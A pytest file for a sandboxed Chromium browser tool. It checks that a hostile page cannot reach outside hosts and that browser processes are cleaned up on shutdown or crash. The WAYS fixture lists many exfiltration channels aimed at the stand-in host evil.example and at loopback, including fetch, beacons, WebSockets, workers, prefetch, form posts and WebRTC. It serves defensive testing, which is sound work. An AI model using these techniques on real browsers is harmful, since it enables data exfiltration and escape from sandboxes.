"""What a hostile page cannot reach, and what is left of the browser when it ends in any way."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from policies.action import BrowserOpen
from policies.errors import ActionFailed
from tests.tools.browser.conftest import Hand
from tests.tools.browser.site import Site
from tests.tools.permits import permit
from tools.browser.executor import BrowserExecutor
from tools.browser.find import find_chromium
from tools.browser.session import Browser, BrowserSettings
from tools.errors import BrowserMissing

pytestmark = pytest.mark.asyncio(loop_scope="session")


@pytest.mark.parametrize("status", [301, 302, 303, 307])
async def test_a_redirect_to_a_refused_place_is_not_followed(hand: Hand, web: Site, status: int) -> None:
    web.show("/forbidden", "secret things")
    web.move("/middle", "http://shop.example/forbidden", status)
    with pytest.raises(ActionFailed, match=r"blocked: GET shop\.example") as failed:
        await hand.open(web.move("/", "http://shop.example/middle", status))
    assert not failed.value.may_have_acted
    assert [seen.path for seen in web.seen] == ["/", "/middle"]
    assert not hand.do.has_page("r1")


WAYS = """<meta http-equiv=refresh content='0.05;url=http://evil.example/meta'>
<iframe src=http://evil.example/frame></iframe><iframe src=/away></iframe><img src=http://evil.example/image>
<iframe srcdoc="<img src='http://evil.example/srcdoc'>"></iframe><link rel=prefetch href=http://evil.example/prefetch>
<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=http://evil.example>
<object data=http://evil.example/object></object><form id=f method=post action=http://evil.example/form></form>
<script type=speculationrules>{{"prefetch":[{{"urls":["http://evil.example/speculation"]}}]}}</script>
<script>
const to = ['http://evil.example', 'http://127.0.0.1:{port}', 'http://[::1]:{port}', 'http://localhost:{port}',
  'http://2130706433:{port}', 'http://unlisted.example', 'http://shop.example/forbidden'];
for (const host of to) {{
  fetch(host + '/fetch', {{mode: 'no-cors'}}).catch(() => 0);
  navigator.sendBeacon(host + '/beacon', 'x');
  new WebSocket(host.replace('http', 'ws') + '/socket');
  new EventSource(host + '/events');
  window.open(host + '/popup');
  new Worker(URL.createObjectURL(new Blob([`fetch('${{host}}/worker',{{mode:'no-cors'}}).catch(()=>0);` +
    (host.includes('shop') ? '' : `new WebSocket('${{host.replace('http', 'ws')}}/worker-socket')`)])));
}}
try {{ new SharedWorker('/shared.js') }} catch {{ }}
fetch('/away').catch(() => 0);
document.body.append(Object.assign(document.createElement('iframe'), {{src: URL.createObjectURL(
  new Blob(["<form method=post action=http://evil.example/blob></form><script>document.forms[0].submit()<\\/script>"],
  {{type: 'text/html'}}))}}));
setTimeout(() => f.submit(), 20);
</script>"""


async def test_a_page_that_tries_everything_reaches_nobody(hand: Hand, web: Site) -> None:
    web.move("/away", "http://evil.example/redirected")
    body = b"fetch('http://evil.example/shared',{mode:'no-cors'}).catch(()=>0);fetch('/away').catch(()=>0)"
    web.answer("/shared.js", 200, {"Content-Type": "text/javascript"}, body)
    with contextlib.suppress(ActionFailed):
        await hand.open(web.show("/", WAYS.format(port=web.port)))
    await hand.open(web.show("/after", "fine"))
    reached = {(seen.host, seen.path) for seen in web.seen}
    assert reached <= {("shop.example", p) for p in ("/", "/away", "/shared.js", "/after", "/favicon.ico")}
    assert ("shop.example", "/shared.js") in reached


async def test_without_the_walls_the_same_page_reaches_many(web: Site) -> None:
    """So that the test above can fail."""
    web.pages.clear()
    web.seen.clear()
    names = ("shop.example", "evil.example")
    hosts = dict.fromkeys(names, f"127.0.0.1:{web.port}")
    browser = Browser(BrowserSettings(open_names=True, hosts=hosts), lambda *request: True)
    try:
        tab = await browser.tab("r1")
        await tab.page.goto(web.show("/", WAYS.format(port=web.port)), wait_until="commit")
        await tab.settle()
    finally:
        await browser.shutdown()
    assert len({seen.path for seen in web.seen if seen.host != "shop.example"}) >= 6


async def test_webrtc_does_not_leave(hand: Hand, web: Site) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        port = stun.getsockname()[1]
        script = """let C = self.RTCPeerConnection || frames[0].RTCPeerConnection;
        if (C) { let c = new C({iceServers:[{urls:'stun:127.0.0.1:PORT'}]}); c.createDataChannel('x');
        c.createOffer().then(o => c.setLocalDescription(o)); c.onicegatheringstatechange=()=>out.textContent=c.iceGatheringState }
        else out.textContent='none'""".replace("PORT", str(port))
        text = await hand.open(web.show("/", f"<iframe></iframe><p id=out></p><script>{script}</script>"))
        assert ": none" in text  # removed from the page; the switch stands behind that
        with pytest.raises(BlockingIOError):
            stun.recv(100)


async def test_the_level_says_whether_chromiums_own_sandbox_is_on(hand: Hand, web: Site) -> None:
    raw = await hand.act(await hand.do.open("r1", web.show("/", "x")))
    assert raw.level == ("none" if os.geteuid() == 0 else "namespaces")


async def test_a_missing_browser_is_named_with_how_to_get_one(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with pytest.raises(BrowserMissing, match="'/nowhere/chromium'"):
        find_chromium("/nowhere/chromium")
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path))
    with pytest.raises(BrowserMissing, match="apt-get install chromium"):
        find_chromium(None)
    program = tmp_path / "chromium-1234" / "chrome-linux64" / "chrome"
    program.parent.mkdir(parents=True)
    program.touch()
    assert find_chromium(None) == program


async def test_a_program_that_is_no_browser_fails_in_one_sentence() -> None:
    browser = Browser(BrowserSettings(chromium="/bin/true"), lambda *request: True)
    executor = BrowserExecutor(browser, lambda run: None, None, str)  # type: ignore[arg-type,return-value]
    with pytest.raises(ActionFailed, match="does not start as a browser") as failed:
        await executor.execute(permit(BrowserOpen(url="http://shop.example/")))
    assert not failed.value.may_have_acted
    await browser.shutdown()


def group(leader: int) -> set[int]:
    """Living processes of the browser's process group."""
    found = set()
    for stat in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            after = stat.read_text().rpartition(")")[2].split()
            if int(after[2]) == leader and after[0] != "Z":
                found.add(int(stat.parent.name))
    return found


async def gone(leader: int) -> bool:
    async with asyncio.timeout(10):
        while group(leader):
            await asyncio.sleep(0.05)
    return True


async def started(web: Site) -> tuple[Browser, int]:
    settings = BrowserSettings(names=frozenset({"shop.example"}), hosts={"shop.example": f"127.0.0.1:{web.port}"})
    browser = Browser(settings, lambda *request: True)
    await browser.tab("r1")
    assert browser._starting is not None
    pid = browser._starting.result().pid
    assert len(group(pid)) > 3
    return browser, pid


async def test_shutdown_leaves_no_process_also_of_a_browser_that_hangs(
    web: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    browser, pid = await started(web)
    await browser.shutdown()
    await browser.shutdown()
    assert await gone(pid)

    monkeypatch.setattr("tools.browser.session._CLOSE_S", 0.3)
    browser, pid = await started(web)
    for process in group(pid):
        os.kill(process, signal.SIGSTOP)
    await browser.shutdown()
    assert await gone(pid)


async def test_a_browser_whose_user_is_cancelled_is_ended(web: Site) -> None:
    browser, pid = await started(web)
    for process in group(pid):
        os.kill(process, signal.SIGSTOP)
    ending = asyncio.create_task(browser.shutdown())
    await asyncio.sleep(0)
    await asyncio.wait({ending}, timeout=0.1)
    ending.cancel()
    with pytest.raises(asyncio.CancelledError):
        await ending
    assert await gone(pid)


async def test_after_a_crash_the_next_call_starts_afresh(web: Site) -> None:
    browser, pid = await started(web)
    executor = BrowserExecutor(browser, lambda run: None, None, str)  # type: ignore[arg-type,return-value]
    hand = Hand(executor, None)  # type: ignore[arg-type]
    try:
        page = "<form method=post action=/slow><button>Go</button></form>"
        web.pages["shop.example/slow"] = lambda handler: os.killpg(pid, signal.SIGKILL)
        await hand.open(web.show("/", page))
        with pytest.raises(ActionFailed) as failed:
            await hand.click('"Go"')
        assert failed.value.may_have_acted
        assert not executor.has_page("r1")
        assert 'button "Go"' in await hand.open("http://shop.example/")
    finally:
        await browser.shutdown()


async def test_a_killed_process_takes_its_browser_with_it(web: Site) -> None:
    code = """
import asyncio
from tools.browser.session import Browser, BrowserSettings
async def main():
    browser = Browser(BrowserSettings(), lambda *request: True)
    await browser.tab("r1")
    print(browser._starting.result().pid, flush=True)
    await asyncio.Event().wait()
asyncio.run(main())
"""
    root = str(Path(__file__).parents[3])
    with subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True, cwd=root) as child:
        assert child.stdout is not None
        pid = int(await asyncio.to_thread(child.stdout.readline))
        assert len(group(pid)) > 3
        child.kill()
    assert await gone(pid)
